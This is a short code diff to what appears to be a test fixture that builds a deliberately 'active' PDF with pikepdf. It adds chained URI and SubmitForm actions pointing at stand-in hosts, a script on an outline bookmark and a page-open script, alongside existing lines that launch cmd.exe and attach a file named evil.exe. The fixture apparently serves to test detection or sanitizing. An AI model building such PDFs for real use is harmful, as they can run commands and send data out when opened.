@@ -57,6 +57,11 @@ def an_active_pdf(path: Path) -> Path:
             A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
         )
         pdf.pages[0]["/Annots"] = pikepdf.Array([pdf.make_indirect(launch)])
+        submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://elsewhere.example")
+        chain = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://hall.example", Next=pikepdf.Array([submit]))
+        mark = pdf.make_indirect(pikepdf.Dictionary(Title="x", A=script, Next=pdf.make_indirect(chain)))
+        pdf.Root["/Outlines"] = pdf.make_indirect(pikepdf.Dictionary(First=mark, Last=mark, Count=1))
+        pdf.pages[0]["/AA"] = pikepdf.Dictionary(O=script)
         pdf.attachments["evil.exe"] = b"MZ"
         pdf.save(path)
     return path
